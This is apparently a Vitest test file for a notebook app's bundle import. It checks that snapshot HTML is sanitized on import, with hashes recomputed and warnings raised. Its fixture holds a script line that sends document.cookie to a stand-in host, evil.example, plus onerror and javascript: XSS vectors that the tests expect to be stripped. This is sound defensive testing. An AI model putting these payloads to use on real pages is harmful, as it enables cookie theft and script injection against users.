import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { CaseDocument } from '../../shared/domain/case-document.ts';
import { importBundle } from '../../electron/services/case-document.ts';
import { sha256Hex } from '../../electron/services/snapshots/sha256.ts';
import { fullCaseDocument } from '../helpers/factories.ts';
import { tempNotebook } from '../helpers/temp-notebook.ts';

const HOSTILE_HTML =
  '<article><h1>Statement</h1><p>We apologise to everyone affected.</p>' +
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
  '<img src="x" onerror="alert(1)" alt="Logo">' +
  '<p><a href="javascript:alert(document.domain)">Read the full statement</a> or ' +
  '<a href="https://example.com/full">the archive</a>.</p></article>';

/** The full test case with its first source's snapshot replaced by this HTML, its hash made to match. */
function bundleWithSnapshotHtml(html: string): { document: CaseDocument; title: string } {
  const document = fullCaseDocument();
  const source = document.sources[0]!;
  const sources = [
    { ...source, snapshot: { ...source.snapshot!, html, text: 'whatever the file says', sha256: sha256Hex(html) } },
    ...document.sources.slice(1),
  ];
  return { document: { ...document, sources }, title: source.title };
}

describe('bundle import sanitizes snapshot HTML again', () => {
  it('strips script, event handlers and javascript: links, recomputes text and hash, and warns naming the source', () => {
    const notebook = tempNotebook();
    const { document, title } = bundleWithSnapshotHtml(HOSTILE_HTML);
    const result = importBundle(notebook.db, document, { file: 'hostile.casebook.json' });
    expect(result.warnings).toContainEqual({
      file: 'hostile.casebook.json',
      message: expect.stringMatching(new RegExp(`^The snapshot of "${title}" held HTML that Casebook never keeps`)),
    });
    const sourceId = document.sources[0]!.id;
    const stored = notebook.call('sources.get', { id: sourceId }).snapshot!;
    expect(stored.html).not.toMatch(/<script|onerror|javascript:|document\.cookie|evil\.example/i);
    expect(stored.html).toContain('<a href="https://example.com/full">the archive</a>');
    expect(stored.text).toContain('We apologise to everyone affected.');
    expect(stored.text).not.toBe('whatever the file says');
    expect(stored.sha256).toBe(sha256Hex(stored.html));
    expect(notebook.call('snapshots.verify', { sourceId })).toMatchObject({ ok: true });
    expect(stored.capturedAt).toBe(document.sources[0]!.snapshot!.capturedAt);
  });

  it('sanitizes a snapshot that goes to a source already in the library', () => {
    const notebook = tempNotebook();
    const { document } = bundleWithSnapshotHtml(HOSTILE_HTML);
    const mine = notebook.call('sources.create', { fields: { title: 'Mine', url: document.sources[0]!.url } });
    const result = importBundle(notebook.db, document);
    expect(result.warnings.some((warning) => warning.message.includes('sanitized again'))).toBe(true);
    const stored = notebook.call('sources.get', { id: mine.source.id }).snapshot!;
    expect(stored.html).not.toMatch(/<script|onerror|javascript:/i);
  });

  it('still reports a snapshot whose hash did not match in the file', () => {
    const notebook = tempNotebook();
    const { document } = bundleWithSnapshotHtml(HOSTILE_HTML);
    const tampered = {
      ...document,
      sources: [
        { ...document.sources[0]!, snapshot: { ...document.sources[0]!.snapshot!, sha256: '0'.repeat(64) } },
        ...document.sources.slice(1),
      ],
    };
    const messages = importBundle(notebook.db, tampered).warnings.map((warning) => warning.message);
    expect(messages.some((message) => message.includes('does not match its SHA-256'))).toBe(true);
  });

  it('leaves a snapshot Casebook captured unchanged, with no warning, for every real page', () => {
    const pages = new URL('../../../shared/fixtures/web-pages/', import.meta.url);
    const source = tempNotebook();
    const { id: caseId } = source.call('cases.create', { title: 'Pages' });
    const ids: string[] = [];
    for (const page of readdirSync(pages, { withFileTypes: true }).filter((entry) => entry.isDirectory())) {
      const added = source.call('sources.addFromHtml', {
        base64: readFileSync(new URL(`${page.name}/source.html`, pages)).toString('base64'),
        fileName: `${page.name}.html`,
      });
      ids.push(added.source.id);
      const quote = source.call('quotes.create', { caseId, fields: { text: page.name } });
      source.call('citations.add', {
        target: { kind: 'quote', id: quote.id },
        citation: { sourceId: added.source.id },
      });
    }
    const bundle = source.call('bundles.exportCase', { id: caseId });
    expect(bundle.sources).toHaveLength(ids.length);
    const fresh = tempNotebook();
    expect(importBundle(fresh.db, JSON.parse(JSON.stringify(bundle))).warnings).toEqual([]);
    for (const id of ids) {
      expect(fresh.call('sources.get', { id }).snapshot).toEqual(source.call('sources.get', { id }).snapshot);
    }
  });
});
